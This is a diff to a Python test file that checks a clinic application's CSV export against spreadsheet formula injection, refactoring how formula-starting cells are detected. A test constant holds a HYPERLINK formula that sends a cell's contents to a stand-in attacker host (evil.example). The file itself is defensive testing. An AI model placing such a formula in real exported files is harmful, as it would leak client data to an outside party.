@@ -27,7 +27,7 @@ from accord_clinic.models import Client
 from accord_clinic.queries.copies import as_csv
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Invoice")'
-BEGINS_ONE = tuple("=+-@＝＋－＠\t\r")
+SIGNS = tuple("=+-@＝＋－＠")
 MAPPING = """
 source = "An old program"
 [columns]
@@ -87,9 +87,9 @@ class TestOut:
     @hypothesis_settings(deadline=None)
     def test_nor_is_it_one_where_cells_are_split_elsewhere(self, words, separator):
         """A program that expects semicolons splits a file with commas in the middle of somebody's sentence."""
-        out = as_csv([{"number": 1, "words": words}]).split("\n", 1)[1]
-        pieces = re.split(f"[{separator}\n\r]", out)
-        assert not [piece for piece in pieces if piece.strip(' "')[:1] in BEGINS_ONE[:8] and piece.strip(' "')]
+        out = as_csv([{"number": 1, "words": words}])
+        cells = [cell for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator) for cell in row]
+        assert not [cell for cell in cells if _runs(cell)]
 
     def test_tables_leave_the_clinic_by_one_door(self):
         """One function makes cells safe, and nothing else writes tables for spreadsheet programs."""
@@ -186,4 +186,4 @@ def _tables(packed: bytes) -> dict[str, list[str]]:
 
 def _runs(cell: str) -> bool:
     """Whether a spreadsheet program would compute this cell. A number with a sign is only a number."""
-    return cell.lstrip(" ")[:1] in BEGINS_ONE and not re.fullmatch(r"-?[0-9.]+", cell) and cell != ""
+    return cell.lstrip(" \t\r\n").startswith(SIGNS) and not re.fullmatch(r"-?[0-9.]+", cell)
